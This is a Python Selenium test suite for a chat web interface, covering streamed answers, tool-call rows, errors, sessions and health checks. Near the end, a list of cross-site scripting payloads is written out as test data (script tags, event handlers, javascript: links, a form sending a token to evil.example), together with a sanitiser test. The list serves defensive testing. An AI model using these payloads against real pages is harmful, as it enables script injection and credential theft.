"""Talking in the page: messages, answers as they are written, tools, and all that can go wrong on the way."""

import json

import pytest
from selenium.webdriver.common.by import By

from harness.chat_server import Cut, Done, Failed, Gate, Raw, Tool
from harness.page import Page
from harness.talk import (
    answer_dialog,
    banner,
    draft,
    lines,
    rows,
    say,
    wait_for_banner,
    wait_for_draft,
    wait_for_no_banner,
    wait_for_rows,
    write,
)
from harness.waiting import eventually


def test_a_message_is_shown_at_once_and_its_answer_as_it_is_written(chat_page, chat):
    chat.script("tell me", Gate("begin"), "Once ", "upon ", Gate("more"), "a time.", Done())
    chat_page.open("#/chat")
    say(chat_page, "tell me")
    wait_for_rows(chat_page, ("user", "tell me"))
    chat_page.wait_for_text("Thinking…", "Answering…", "Stop")
    assert draft(chat_page) == ""

    chat.open("begin")
    wait_for_rows(chat_page, ("user", "tell me"), ("assistant", "Once upon"))
    assert chat_page.find(".transcript").get_attribute("aria-busy") == "true"
    chat.open("more")
    wait_for_rows(chat_page, ("user", "tell me"), ("assistant", "Once upon a time."))
    chat_page.wait_for_text("complete · 10 + 20 = 30 tokens")
    (session,) = chat.sessions.values()
    assert [message["role"] for message in session["messages"]] == ["user", "assistant"]
    assert chat_page.browser.current_url.endswith(session["id"])


def test_a_second_message_goes_on_in_the_same_session(chat_page, chat):
    chat_page.open("#/chat")
    say(chat_page, "hi")
    wait_for_rows(chat_page, ("user", "hi"), ("assistant", "Mock response to: hi"))
    chat_page.wait_for_text("30 tokens")
    say(chat_page, "again")
    wait_for_rows(
        chat_page,
        ("user", "hi"),
        ("assistant", "Mock response to: hi"),
        ("user", "again"),
        ("assistant", "Mock response to: again"),
    )
    first, second = chat.asked("POST /api/chat")
    (session,) = chat.sessions
    assert first == {"message": "hi"}
    assert second == {"message": "again", "session_id": session}


def test_several_lines_are_one_message(chat_page, chat):
    chat_page.open("#/chat")
    say(chat_page, "one\n two")
    wait_for_rows(chat_page, ("user", "one\n two"), ("assistant", "Mock response to: one\ntwo"))
    assert chat.asked("POST /api/chat") == [{"message": "one\n two"}]


def test_tools_are_folded_rows_that_tell_whether_they_failed(chat_page, chat):
    args = {"command": "ls -la", "deep": [1]}
    chat.script(
        "look",
        "Let me see.",
        Tool("bash", "a\nb", args),
        Tool("read", "tool error: gone", {}, True, "c2"),
        "Two.",
        Done(),
    )
    chat_page.open("#/chat")
    say(chat_page, "look")
    wait_for_rows(
        chat_page,
        ("user", "look"),
        ("assistant", "Let me see."),
        ("tool", "bash"),
        ("tool", "read"),
        ("assistant", "Two."),
    )
    good, bad = chat_page.browser.find_elements(By.CSS_SELECTOR, ".transcript details")
    assert not good.get_property("open") and not bad.get_property("open")
    assert "ls -la" in good.text and "failed" not in good.text
    assert "failed" in bad.text
    good.find_element(By.CSS_SELECTOR, "summary").click()
    blocks = eventually(lambda: good.find_elements(By.CSS_SELECTOR, "pre"), "the row is open")
    assert [json.loads(blocks[0].text), blocks[1].text] == [args, "a\nb"]
    chat_page.screenshot("chat-tools")


@pytest.mark.parametrize(("tool", "failed"), [("ls", False), ("read", True), ("nosuch", True)])
def test_the_mock_provider_uses_a_tool_until_it_may_no_longer(chat_page, chat, tool, failed):
    chat_page.open("#/chat")
    say(chat_page, f"use_tool: {tool}")
    calls = [("tool", tool)] * 6
    wait_for_rows(chat_page, ("user", f"use_tool: {tool}"), *calls, ("assistant", "Stopped: max iterations reached."))
    chat_page.wait_for_text("stopped while using tools · 10 + 5 = 15 tokens")
    assert len(chat_page.browser.find_elements(By.CSS_SELECTOR, "details.failed")) == (6 if failed else 0)
    # What was shown while it came is what is shown of what was stored.
    before = rows(chat_page)
    chat_page.browser.refresh()
    wait_for_rows(chat_page, *before)


def test_an_error_in_the_stream_is_in_the_banner_until_the_next_success(chat_page, chat):
    chat.script("break", "Half an ", Failed("the provider is tired", "internal_error"))
    chat_page.open("#/chat")
    say(chat_page, "break")
    wait_for_banner(chat_page, "internal_error: the provider is tired")
    chat_page.wait_for_text("Half an", "This answer is incomplete", "Not finished")
    chat_page.screenshot("chat-error")
    chat_page.press("Put it back into the draft")
    wait_for_draft(chat_page, "break")
    write(chat_page, " not")
    say(chat_page, "")
    chat_page.wait_for_text("Mock response to: break not")
    wait_for_no_banner(chat_page)


@pytest.mark.parametrize(
    ("status", "code"),
    [
        (400, "HTTP_BAD_REQUEST"),
        (403, "HTTP_UNAUTHORIZED"),
        (404, "HTTP_NOT_FOUND"),
        (409, "UNKNOWN"),
        (500, "HTTP_SERVER_ERROR"),
        (503, "HTTP_SERVER_ERROR"),
    ],
)
def test_what_could_not_be_sent_is_a_draft_again(chat_page_with_failures, chat, status, code):
    page = chat_page_with_failures
    page.open("#/chat")
    chat.refuse("POST /api/chat", status, "some_code", "not now, please")
    say(page, "a long\nthought")
    wait_for_banner(page, f"{code}: not now, please")
    wait_for_draft(page, "a long\nthought")
    assert rows(page) == []
    say(page, "")
    page.wait_for_text("Mock response to: a long")
    wait_for_no_banner(page)
    assert draft(page) == ""


def test_an_answer_goes_on_although_the_connection_was_lost(chat_page_with_failures, chat):
    page = chat_page_with_failures
    chat.script("long", "The beginning ", Gate("cut"), Cut(), Gate("end"), "and the end.", Done())
    page.open("#/chat")
    say(page, "long")
    wait_for_rows(page, ("user", "long"), ("assistant", "The beginning"))
    chat.open("cut")
    wait_for_banner(page, "NETWORK_UNAVAILABLE")
    page.wait_for_text("The daemon goes on with it")
    chat.open("end")
    wait_for_rows(page, ("user", "long"), ("assistant", "The beginning and the end."))
    eventually(lambda: "goes on with it" not in page.text(), "nothing is waited for any more")


@pytest.mark.parametrize(
    "step",
    [
        pytest.param(Cut(clean=True), id="an end too early"),
        pytest.param(Raw(b"event: done\ndata: {\n\n"), id="broken JSON"),
        pytest.param(Raw(b"data: \xff\n\n"), id="no UTF-8"),
        pytest.param(Raw(b'event: tool_call\ndata: {"id":"1"}\n\n'), id="half a tool call"),
    ],
)
def test_a_stream_that_breaks_the_rules_is_told_as_such(chat_page_with_failures, chat, step):
    page = chat_page_with_failures
    chat.script("odd", "Some text", step, Done())
    page.open("#/chat")
    say(page, "odd")
    wait_for_banner(page, "SSE_PROTOCOL_ERROR")
    page.wait_for_text("Some text")


def test_text_arrives_as_it_was_sent(chat_page, chat):
    odd = Raw(
        b": a comment\r\n\r\nevent: news\r\ndata: {\r\n\r\ndata:  two \r\ndata:\r\ndata: lines \xf0\x9f\x90\x84\r\n\r\n"
    )
    chat.script("odd", odd, "\n\n```\n  keepalive\n```", Done())
    chat_page.open("#/chat")
    say(chat_page, "odd")
    chat_page.wait_for_text("two", "lines 🐄", "keepalive")
    code = eventually(lambda: chat_page.browser.find_elements(By.CSS_SELECTOR, ".rich pre"), "there is code")
    assert code[0].get_property("textContent") == "  keepalive"


def test_an_answer_is_stopped(chat_page, chat):
    chat.script("forever", "It goes on ", Gate("never"), Done())
    chat_page.open("#/chat")
    say(chat_page, "forever")
    wait_for_rows(chat_page, ("user", "forever"), ("assistant", "It goes on"))
    chat_page.press("Stop")
    chat_page.wait_for_text("Stopped.")
    assert banner(chat_page) is None
    (session,) = chat.sessions.values()
    assert session["messages"][-1]["partial"] is True
    say(chat_page, "hi")
    chat_page.wait_for_text("Mock response to: hi")


def test_an_answer_that_was_asked_for_elsewhere_is_told_and_stopped(chat_page, chat):
    session = chat.add_session(("user", "asked on a phone"))
    chat.fleet[session] = {"id": session, "origin": "chat", "state": "RUNNING", "live": True, "activity": "working"}
    chat_page.open(f"#/chat/{session}")
    chat_page.wait_for_text("asked on a phone", "asked for elsewhere is on its way")
    chat_page.press("Stop")
    eventually(lambda: chat.asked(f"POST /api/sessions/{session}/cancel"), "the turn is cancelled")


def test_two_sessions_answer_at_the_same_time_and_keep_their_drafts(chat_page, chat):
    first, second = chat.add_session(("user", "in the first")), chat.add_session(("user", "in the second"))
    chat.script("slow", "slow begins", Gate("slow"), " and ends", Done())
    chat_page.open(f"#/chat/{first}")
    chat_page.wait_for_text("in the first")
    say(chat_page, "slow")
    chat_page.wait_for_text("slow begins")
    write(chat_page, "for the first")
    chat_page.click(f"a[href='#/chat/{second}']")
    wait_for_rows(chat_page, ("user", "in the second"))
    assert draft(chat_page) == ""
    say(chat_page, "quick")
    chat_page.wait_for_text("Mock response to: quick")
    write(chat_page, "for the second")
    chat.open("slow")
    chat_page.click(f"a[href='#/chat/{first}']")
    chat_page.wait_for_text("slow begins and ends")
    assert draft(chat_page) == "for the first"
    chat_page.browser.refresh()
    chat_page.click(f"a[href='#/chat/{second}']")
    wait_for_draft(chat_page, "for the second")


def test_deleting_asks_first(chat_page, chat):
    session = chat.add_session(("user", "precious"))
    chat_page.open(f"#/chat/{session}")
    chat_page.wait_for_text("precious")
    chat_page.press("Delete session")
    answer_dialog(chat_page, "Cancel")
    assert session in chat.sessions
    chat_page.press("Delete session")
    answer_dialog(chat_page, "Delete session")
    eventually(lambda: session not in chat.sessions, "the session is deleted")
    chat_page.wait_for_text("No sessions yet", "Say something")


def test_a_session_that_is_deleted_while_it_answers_is_gone(chat_page_with_failures, chat):
    page = chat_page_with_failures
    session = chat.add_session(("user", "old"))
    chat.script("slow", "begins", Gate("slow"), Done())
    page.open(f"#/chat/{session}")
    say(page, "slow")
    page.wait_for_text("begins")
    del chat.sessions[session]
    chat.open("slow")
    wait_for_banner(page, "not_found")
    page.wait_for_text("No such session")


def test_an_unknown_session_says_so_and_leads_on(chat_page_with_failures, chat):
    page = chat_page_with_failures
    page.open("#/chat/nobody")
    page.wait_for_text("No such session")
    page.find(".composer .button").click()
    page.wait_for_text("Say something")
    assert len(chat.sessions) == 1


def test_the_list_shows_the_last_thing_said_and_what_others_did(chat_page, chat):
    chat.add_session(("user", "question"), ("assistant", "the answer"))
    chat_page.open("#/chat")
    chat_page.wait_for_text("the answer", "ok @ 20", chat.url, "http")
    other = chat.add_session()
    chat_page.click("button[aria-label=Refresh]")
    chat_page.wait_for_text(other[:8], "(empty)")
    chat_page.click(".rail-head .button")
    eventually(lambda: len(chat.sessions) == 3, "there is a new session")
    chat_page.wait_for_text("Say something")


def test_a_long_conversation_shows_its_end_first(chat_page, chat):
    messages = [("user" if number % 2 == 0 else "assistant", f"line {number}") for number in range(500)]
    session = chat.add_session(*messages)
    chat_page.open(f"#/chat/{session}")
    chat_page.wait_for_text("line 499")
    assert len(rows(chat_page)) == 60
    at_end = "const t = document.querySelector('.transcript'); return t.scrollHeight - t.scrollTop - t.clientHeight"
    eventually(lambda: chat_page.browser.execute_script(at_end) < 5, "the end is in view")
    chat_page.press("Show 200 earlier of 440")
    eventually(lambda: len(rows(chat_page)) == 260, "more is shown")
    # Whoever reads further up is not thrown to the end by what is said there.
    chat_page.browser.execute_script("document.querySelector('.transcript').scrollTop = 0")
    chat_page.find(".latest")
    chat_page.browser.execute_script("document.querySelector('.latest').click()")
    eventually(lambda: chat_page.browser.execute_script(at_end) < 5, "the end is in view again")


def test_many_sessions_are_shown_in_portions(chat_page, chat):
    for number in range(130):
        chat.add_session(("user", f"number {number}"))
    chat_page.open("#/chat")
    chat_page.wait_for_text("Show 30 more of 30")
    assert len(chat_page.browser.find_elements(By.CSS_SELECTOR, ".rail-item")) == 100
    chat_page.press("Show 30 more of 30")
    eventually(lambda: len(chat_page.browser.find_elements(By.CSS_SELECTOR, ".rail-item")) == 130, "all are shown")


def test_events_are_listed_newest_first_and_eighteen_of_them(chat_page, chat):
    chat.script("count", *[f"{number} " for number in range(40)], Done())
    chat_page.open("#/chat")
    say(chat_page, "count")
    chat_page.wait_for_text("30 tokens")
    shown = lines(chat_page)
    assert len(shown) == 18
    assert shown[0] == "[done] stop, 30 tokens"
    assert [line.strip() for line in shown[1:4]] == ["[delta] 39", "[delta] 38", "[delta] 37"]
    chat_page.press("New")
    eventually(lambda: lines(chat_page)[0].startswith("[session.create] "), "creating a session is an event")


def test_health_tells_when_the_daemon_is_away_and_when_clocks_differ(chat_page_with_failures, chat):
    page = chat_page_with_failures
    chat.clock_ahead = 90
    page.open("#/chat")
    page.wait_for_text("ok @", "its clock is 90 s ahead")
    chat.away = True
    page.click("button[aria-label=Refresh]")
    page.wait_for_text("unreachable")
    wait_for_banner(page, "NETWORK_UNAVAILABLE")
    chat.away = False
    page.click("button[aria-label=Refresh]")
    page.wait_for_text("ok @")
    wait_for_no_banner(page)


# What models say is never more than text


EVIL = [
    "<script>document.title='owned'</script>",
    "<img src=x onerror=\"document.title='owned'\">",
    "<svg onload=\"document.title='owned'\"></svg>",
    "<iframe srcdoc=\"<script>parent.document.title='owned'</script>\"></iframe>",
    "[click](javascript:document.title='owned')",
    "[click](<JaVaScRiPt:document.title='owned'>)",
    "![x](https://evil.example/track.png)",
    '[x](https://x.example/" onmouseover="document.title=1)',
    "```html\n<script>document.title='owned'</script>\n```",
    '```"><script>document.title=1</script>\nx\n```',
    '<p style="position:fixed;inset:0">over everything</p>',
    "| <b>a</b> | b |\n|---|---|\n| <img src=x onerror=alert(1)> | 2 |",
    "<form action=https://evil.example><input name=token></form>",
]


def test_markup_in_answers_does_nothing(chat_page, chat):
    chat.script("evil", *[f"{piece}\n\n" for piece in EVIL], Done())
    chat_page.open("#/chat")
    say(chat_page, "evil")
    chat_page.wait_for_text("over everything", "30 tokens")
    found = chat_page.browser.execute_script("""
        const rich = document.querySelector('.rich');
        const bad = 'script, img, svg, iframe, form, input, style, object, embed, [style], [src], [srcdoc]';
        const names = [...rich.querySelectorAll('*')].flatMap((element) => element.getAttributeNames());
        const handlers = names.filter((name) => name.startsWith('on'));
        const links = [...rich.querySelectorAll('a')].map((a) => [a.protocol, a.rel, a.target]);
        return [rich.querySelectorAll(bad).length, handlers, links];
    """)
    assert found[0] == 0 and found[1] == []
    assert found[2] and all(link == ["https:", "noopener noreferrer nofollow", "_blank"] for link in found[2])
    assert "owned" not in chat_page.browser.title
    # The same for what a person says, and for names and output of tools.
    chat.script("tools", Tool(EVIL[1], EVIL[0], {"a": EVIL[1]}), Done())
    say(chat_page, EVIL[1])
    chat_page.wait_for_text("Mock response to: <img")
    say(chat_page, "tools")
    eventually(lambda: rows(chat_page)[-1] == ("tool", EVIL[1]), "the tool is shown")
    assert chat_page.browser.execute_script("return document.querySelectorAll('.chat img, .chat script').length") == 0
    assert "owned" not in chat_page.browser.title


def test_the_sanitiser_takes_out_what_markdown_would_never_make(browser, chat):
    # Not the page that must not complain: to look at such markup is enough for the policy to object.
    chat_page = Page(browser, chat.url)
    chat_page.open("#/chat")
    chat_page.find("#composer")
    result = chat_page.browser.execute_async_script(
        """
        const [html, done] = arguments;
        import('/app/components/chat/rich-text.js').then(({ sanitised }) => {
            const place = document.createElement('div');
            place.append(sanitised(html));
            done(place.innerHTML);
        });
        """,
        """<p style="color:red" onclick="x()" class="banner" id="app">a<script>x()</script><img src=x onerror=x()></p>
        <a href="javascript:x()">b</a><a href="https://x.example" target=_top>c</a><a href="/api/sessions">d</a>
        <pre data-language="js" data-x="1"><code>e</code></pre><svg><a xlink:href="javascript:x()">f</a></svg>
        <td align="right">g</td><iframe></iframe><math><mtext></mtext></math><template><b>h</b></template>""",
    )
    for gone in (
        "style",
        "onclick",
        "class",
        "id=",
        "script",
        "img",
        "svg",
        "iframe",
        "target",
        "data-x",
        "math",
        "/api/",
    ):
        assert gone not in result, (gone, result)
    assert '<a href="https://x.example">c</a>' in result
    assert '<pre data-language="js"><code>e</code></pre>' in result


def test_a_code_block_is_one_before_it_has_ended_and_can_be_copied(chat_page, chat):
    chat.script("code", "Look:\n\n```swift\nlet a = 1\n", Gate("more"), "let b = 2\n```\n\nThat *is* all.", Done())
    chat_page.open("#/chat")
    say(chat_page, "code")
    code = "return [...document.querySelectorAll('.rich pre')].map((pre) => pre.textContent)"
    eventually(lambda: chat_page.browser.execute_script(code) == ["let a = 1\n"], "the code is a block already")
    chat_page.wait_for_text("swift")
    # What a person has selected stays selected while more comes.
    chat_page.browser.execute_script("getSelection().selectAllChildren(document.querySelector('.rich p'))")
    chat.open("more")
    chat_page.wait_for_text("That is all.")
    assert chat_page.browser.execute_script(code) == ["let a = 1\nlet b = 2"]
    assert chat_page.browser.execute_script("return getSelection().toString()").strip() == "Look:"
    chat_page.press("Copy")
    chat_page.wait_for_text("Code copied")
